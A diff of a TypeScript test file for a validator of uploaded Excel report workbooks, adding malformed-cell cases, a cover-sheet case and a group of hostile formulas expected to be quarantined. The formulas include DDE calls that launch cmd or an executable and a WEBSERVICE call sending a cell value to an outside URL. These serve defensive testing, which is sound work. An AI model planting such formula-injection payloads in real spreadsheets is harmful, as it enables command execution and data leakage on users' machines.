@@ -41,13 +41,6 @@ const CELLS: readonly Row[] = [
     '3',
   ],
   ['a formula never computed', first('<f>1+1</f>'), 'rejected', ['E307 报表!F7']],
-  [
-    'a call of a program as formula',
-    first("<f>cmd|'/c calc'!A1</f><v>1</v>"),
-    'accepted-with-notes',
-    ['E404 报表!F7'],
-    '1',
-  ],
   ...['#REF!', '#DIV/0!', '#N/A', '#VALUE!', '#NAME?'].map(
     (error): Row => [error, first(`<v>${error}</v>`, 'e'), 'rejected', ['E304 报表!F7']],
   ),
@@ -69,6 +62,10 @@ const CELLS: readonly Row[] = [
     [],
     '1',
   ],
+  ['a value between cells', put('<c r="F7"', '<v>7</v><c r="F7"'), 'rejected', ['E120']],
+  ['text between cells', put('<c r="F7"', '" t="s"><c r="F7"'), 'rejected', ['E120']],
+  ['text within a cell, beside its value', first('x<v>1</v>'), 'rejected', ['E120']],
+  ['an element between cells that is none of ours', put('<c r="F7"', '<，c r="F7"/><c r="F7"'), 'rejected', ['E120']],
   ['the cell twice', put('<c r="F7"', '<c r="F7"><v>7</v></c><c r="F7"'), 'rejected', ['E120']],
   ['a cell before the one before it', put('<c r="F7"', '<c r="H7"><v>7</v></c><c r="F7"'), 'rejected', ['E120']],
   ['the row twice', put('<row r="8"', '<row r="7"'), 'rejected', ['E120']],
@@ -76,6 +73,15 @@ const CELLS: readonly Row[] = [
   ['tags that cross', first('<v>1</c></v>'), 'rejected', ['E120']],
   ['another place in the text of an attribute', put('<c r="F7"', `<c x=' r="F8"' r="F7"`), 'accepted', [], '1'],
   ['an attribute with a foreign prefix', put('<c r="F7"', '<c x:r="F8" r="F7"'), 'accepted', [], '1'],
+]
+
+/** Formulas that start or fetch something when a program opens them. */
+const CALLS: readonly Row[] = [
+  ...["cmd|'/c calc'!A1", "MSEXCEL|'\\..\\x.exe'!A1", '1+cmd|a!b', 'WEBSERVICE("http://example.com/?a="&amp;A1)'].map(
+    (formula): Row => [`the formula ${formula}`, first(`<f>${formula}</f><v>1</v>`), 'quarantined', ['E127 报表!F7']],
+  ),
+  ['one without a result', first("<f>cmd|'/c calc'!A1</f>"), 'quarantined', ['E127 报表!F7']],
+  ['a bar within a text', first('<f>LEN("a|b")</f><v>3</v>'), 'accepted-with-notes', ['E404 报表!F7'], '3'],
 ]
 
 const SHAPE: readonly Row[] = [
@@ -106,12 +112,13 @@ const SHEETS: readonly (readonly [
   ['the form on a very hidden sheet', () => hidden('veryHidden'), 'rejected', ['E208 报表!']],
   ['two forms', () => moreSheets('', header), 'rejected', ['E207']],
   ['the same form again, hidden', () => moreSheets(' state="hidden"', header), 'accepted-with-notes', ['E209 二!']],
+  ['the form on the second sheet', () => coverFirst(), 'accepted-with-notes', ['E209 封面!']],
   ['notes on a second sheet', () => moreSheets('', row(['说明'])), 'accepted-with-notes', ['E209 二!']],
   ['an empty second sheet', () => moreSheets('', ''), 'accepted', []],
 ]
 
 export const workbookCases: readonly Case[] = [
-  ...[...CELLS, ...SHAPE].map(([name, change, verdict, findings, value]) =>
+  ...[...CELLS, ...CALLS, ...SHAPE].map(([name, change, verdict, findings, value]) =>
     workbookCase({
       name,
       file: () => editZip(workbook, { [SHEET]: change }),
@@ -163,6 +170,19 @@ function far(cell: string, number: string): Change {
 
 function hidden(state: string): Uint8Array {
   return editZip(workbook, { 'xl/workbook.xml': put('sheetId="1"', `sheetId="1" state="${state}"`) })
+}
+
+/** A cover before the form, in the order of the tabs. */
+function coverFirst(): Uint8Array {
+  return editZip(workbook, {
+    'xl/workbook.xml': put('<sheets>', '<sheets><sheet name="封面" sheetId="9" r:id="rId99"/>'),
+    'xl/_rels/workbook.xml.rels': put(
+      '</Relationships>',
+      '<Relationship Id="rId99" Type="http://x/worksheet" Target="worksheets/sheet9.xml"/></Relationships>',
+    ),
+    'xl/worksheets/sheet9.xml': () =>
+      `<worksheet><sheetData>${row(['开发区月报', '内部资料'])}</sheetData></worksheet>`,
+  })
 }
 
 function moreSheets(state: string, rows: string): Uint8Array {
